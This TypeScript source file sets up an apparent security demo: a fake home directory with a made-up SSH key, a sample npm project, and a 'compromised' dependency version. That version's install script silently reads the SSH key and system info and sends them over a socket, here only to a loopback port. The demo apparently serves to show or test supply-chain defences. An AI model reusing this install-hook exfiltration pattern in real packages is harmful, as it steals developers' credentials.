/**
 * The files of the demo: a home directory with a key in it, a project, and two versions of its dependency. All of it is
 * invented and lies in one directory of its own.
 *
 *   home/.ssh/id_ed25519           not a real key, but at the path of one
 *   home/hello/                    the project
 *   home/hello/vendor/greet/       its dependency, with an install script
 *   home/greet-1.0.1/install.js    the script of the later version
 */
import { randomBytes } from "node:crypto";
import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { CliError } from "../error.ts";

const INSTALL = `const { execFileSync } = require("node:child_process");

execFileSync("node", ["compile.js"]);
`;

/** Lines of the install script that are the same in both versions. */
export const INNOCENT_LINES = INSTALL.split("\n").length - 1;

/** The steps of published malware; each may fail silently. Here they only reach the demo itself. */
const compromised = (port: number) => `${INSTALL}
const attempt = (step) => { try { return String(step()); } catch { return "nothing"; } };
const key = attempt(() => require("node:fs").readFileSync(process.env.HOME + "/.ssh/id_ed25519"));
const system = attempt(() => execFileSync("uname", ["-sr"], { env: {} }));
require("node:net").connect(${port}, "127.0.0.1").on("error", () => {}).end(JSON.stringify({ key, system }));
`;

const json = (value: unknown) => `${JSON.stringify(value, null, 2)}\n`;

const PROJECT: Readonly<Record<string, string>> = {
  "package.json": json({
    name: "hello",
    version: "1.0.0",
    private: true,
    scripts: { test: "node test.js" },
    dependencies: { greet: "file:vendor/greet" },
    // Newer npm runs install scripts only of approved dependencies; this one is approved.
    allowScripts: { "file:../vendor/greet": true },
  }),
  // Whatever npm's configuration on this machine is, here it runs install scripts without asking. npm 9 would copy a linked directory.
  ".npmrc":
    "ignore-scripts=false\ninstall-links=false\noffline=true\npackage-lock=false\naudit=false\nfund=false\nupdate-notifier=false\nprogress=false\n",
  "test.js": `const { greet } = require("greet");

require("node:assert").equal(greet("you"), "Hello, you!");
console.log("ok: " + greet("you"));
`,
  "vendor/greet/package.json": json({
    name: "greet",
    version: "1.0.0",
    main: "index.js",
    scripts: { install: "node install.js" },
  }),
  "vendor/greet/index.js": `const phrases = require("./phrases.json");

exports.greet = (name) => phrases.hello + ", " + name + "!";
`,
  "vendor/greet/install.js": INSTALL,
  "vendor/greet/compile.js": `require("node:fs").writeFileSync("phrases.json", JSON.stringify({ hello: "Hello" }));\n`,
};

export interface Place {
  readonly home: string;
  readonly project: string;
  /** The content of the key file. */
  readonly key: string;
  /** The newer version of the dependency, which reports to this port on the loopback address. */
  publishCompromised(port: number): void;
  remove(): void;
}

/** Creates all files in a new temporary directory. */
export function layOut(): Place {
  const root = newDirectory();
  const home = join(root, "home");
  const project = join(home, "hello");
  const key = `made-up-key-${randomBytes(8).toString("hex")}`;
  const remove = () => rmSync(root, { recursive: true, force: true });
  try {
    for (const [path, text] of Object.entries(PROJECT)) write(join(project, path), text);
    write(join(home, ".ssh/id_ed25519"), `${key}\n`);
    chmodSync(join(home, ".ssh/id_ed25519"), 0o600);
  } catch (fault) {
    remove();
    throw fault;
  }
  return {
    home,
    project,
    key,
    publishCompromised: (port) => write(join(home, "greet-1.0.1/install.js"), compromised(port)),
    remove,
  };
}

function newDirectory(): string {
  const parent = tmpdir();
  try {
    return realpathSync(mkdtempSync(join(parent, "isoline-demo-")));
  } catch (fault) {
    const message = `the demo needs a directory of its own in ${parent}: ${(fault as Error).message}; set TMPDIR`;
    throw new CliError("cannot-write", message, { cause: fault });
  }
}

function write(path: string, text: string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
}
